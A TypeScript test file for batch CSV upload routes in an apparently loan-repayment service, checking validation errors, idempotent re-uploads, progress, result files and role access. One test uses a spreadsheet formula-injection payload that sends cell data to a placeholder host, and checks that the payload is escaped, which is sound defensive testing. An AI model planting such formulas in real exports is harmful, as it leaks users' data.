// The batch-file routes over a real BatchFiles and outbox (no chain: a row's chain write is
// marked confirmed by hand, as the sender would): a file with bad rows is refused 422 naming each
// row's line and field and queues nothing; the same file again changes nothing; progress counts
// each outcome; the result file gives each row's transaction and block; only API users upload.
import { expect } from "chai";
import type { FastifyInstance } from "fastify";
import { MemoryLevel } from "memory-level";
import { BatchFiles } from "../../../nodes/src/batch-files/batches.ts";
import { buildNodeApp } from "../../../nodes/src/http/app.ts";
import { tokenSha256 } from "../../../nodes/src/http/auth.ts";
import { Outbox } from "../../../nodes/src/outbox/outbox.ts";
import { repay, serial, until } from "../outbox/fixture.ts";

const CLERK = { user: "clerk-1", role: "clerk", tokenSha256: tokenSha256("clerk-token") } as const;
const COURT = { user: "court-1", role: "court-clerk", tokenSha256: tokenSha256("court-token") } as const;
const LOAN = "0x" + "1c".repeat(32);

describe("batch files over HTTP: upload, progress, result", function () {
  let root: MemoryLevel;
  let outbox: Outbox;
  let batches: BatchFiles;
  let app: FastifyInstance;
  let recorded: string[];

  beforeEach(async function () {
    root = new MemoryLevel();
    await root.open();
    outbox = new Outbox(root.sublevel("outbox", { valueEncoding: "json" }));
    recorded = [];
    batches = new BatchFiles({
      db: root,
      outbox,
      record: async (_kind, row, uploadedBy) => {
        recorded.push(`${row.serial} by ${uploadedBy}`);
        return outbox.enqueue(repay(row.serial, row.loanId, row.amountFen));
      },
    });
    app = await buildNodeApp({
      logger: false,
      memberId: 2,
      users: [CLERK, COURT],
      ops: {} as never,
      cases: {} as never,
      ready: () => ({ ready: true, detail: {} }),
      batchFiles: batches,
    });
  });

  afterEach(async function () {
    await app.close();
    await batches.stop();
    await root.close();
  });

  const upload = (body: string, token = "clerk-token", kind = "repayment") =>
    app.inject({
      method: "POST",
      url: `/v1/batch-files/${kind}`,
      headers: { authorization: `Bearer ${token}`, "content-type": "text/csv" },
      payload: body,
    });
  const get = (url: string) =>
    app.inject({ method: "GET", url, headers: { authorization: "Bearer clerk-token" } });

  it("refuses a file with bad rows 422, naming each row's line and field, and queues nothing", async function () {
    const file = `serial,loanId,amountFen\n${serial("RPY")},${LOAN},1000\nRPY 2,${LOAN},12.50\n${serial("RPY")},0x12,500\n`;
    const res = await upload(file);
    expect(res.statusCode).to.equal(422);
    const { error } = res.json<{
      error: { code: string; details: { rows: { line: number; field: string }[] } };
    }>();
    expect(error.code).to.equal("NODE_ERR_BATCH_FILE_INVALID");
    const where = error.details.rows.map((r) => `${r.line}:${r.field}`);
    expect(where).to.include.members(["3:serial", "3:amountFen", "4:loanId"]);
    expect(await outbox.counts()).to.deep.include({ queued: 0, sent: 0, confirmed: 0 });
    expect(recorded).to.deep.equal([]);
  });

  it("takes a file, reports progress and the result file; the same file again changes nothing", async function () {
    const serials = [serial("RPY"), serial("RPY")];
    const file = `serial,loanId,amountFen\n${serials[0]},${LOAN},1000\n${serials[1]},${LOAN},2000\n`;
    const first = await upload(file);
    expect(first.statusCode).to.equal(200);
    const batch = first.json<{ id: string; rows: number; kind: string; uploadedBy: string }>();
    expect(batch).to.include({ rows: 2, kind: "repayment", uploadedBy: "clerk-1" });
    await until(async () => (await batches.progress(batch.id)).taken === 2, 5_000, "both rows taken");
    expect(recorded).to.deep.equal([`${serials[0]} by clerk-1`, `${serials[1]} by clerk-1`]);

    const pending = await get(`/v1/batch-files/${batch.id}`);
    expect(pending.statusCode).to.equal(200);
    expect(pending.json()).to.deep.include({
      taken: 2,
      done: false,
      counts: { pending: 2, confirmed: 0, failed: 0, refused: 0 },
    });

    const again = await upload(file);
    expect(again.statusCode).to.equal(200);
    expect(again.json<{ id: string }>().id).to.equal(batch.id);
    await batches.stop();
    expect(recorded).to.have.length(2);
    expect((await outbox.counts()).queued).to.equal(2);

    const txHash = "0x" + "ee".repeat(32);
    await outbox.update(serials[0]!, { state: "confirmed", txHash, blockNumber: 41 });
    await outbox.update(serials[1]!, { state: "confirmed", txHash, blockNumber: 42 });
    const done = await get(`/v1/batch-files/${batch.id}`);
    expect(done.json()).to.deep.include({
      done: true,
      counts: { pending: 0, confirmed: 2, failed: 0, refused: 0 },
    });

    const result = await get(`/v1/batch-files/${batch.id}/result`);
    expect(result.statusCode).to.equal(200);
    expect(result.headers["content-type"]).to.match(/^text\/csv/);
    expect(result.body).to.equal(
      "line,serial,outcome,txHash,blockNumber,error\n" +
        `2,${serials[0]},confirmed,${txHash},41,\n3,${serials[1]},confirmed,${txHash},42,\n`,
    );
  });

  it("answers 404 for a batch it does not hold, 400 for a bad id or kind, and 403 to a court clerk", async function () {
    const missing = await get(`/v1/batch-files/${"0".repeat(64)}`);
    expect(missing.statusCode).to.equal(404);
    expect(missing.json<{ error: { code: string } }>().error.code).to.equal("NODE_ERR_BATCH_NOT_FOUND");
    expect((await get(`/v1/batch-files/${"0".repeat(64)}/result`)).statusCode).to.equal(404);
    expect((await get("/v1/batch-files/not-a-hash")).statusCode).to.equal(400);
    const file = `serial,loanId,amountFen\n${serial("RPY")},${LOAN},1000\n`;
    expect((await upload(file, "clerk-token", "settlement")).statusCode).to.equal(400);
    const court = await upload(file, "court-token");
    expect(court.statusCode).to.equal(403);
    expect(recorded).to.deep.equal([]);
  });

  it("writes a serial that looks like a spreadsheet formula as text in the result file", async function () {
    const formula = '=HYPERLINK("http://x.example/"&A1)';
    const batch = (await upload(`serial,loanId,amountFen\n${formula},${LOAN},1000\n`)).json<{ id: string }>();
    await until(async () => (await batches.progress(batch.id)).taken === 1, 5_000, "the row taken");
    const result = await get(`/v1/batch-files/${batch.id}/result`);
    expect(result.body.split("\n")[1]).to.equal(`2,"'=HYPERLINK(""http://x.example/""&A1)",pending,,,`);
  });

  it("refuses a body that is not text/csv and takes nothing", async function () {
    const res = await app.inject({
      method: "POST",
      url: "/v1/batch-files/repayment",
      headers: { authorization: "Bearer clerk-token", "content-type": "application/json" },
      payload: JSON.stringify({ rows: [] }),
    });
    expect(res.statusCode).to.equal(400);
    expect(res.json<{ error: { code: string } }>().error.code).to.equal("NODE_ERR_VALIDATION");
    expect(recorded).to.deep.equal([]);
  });
});
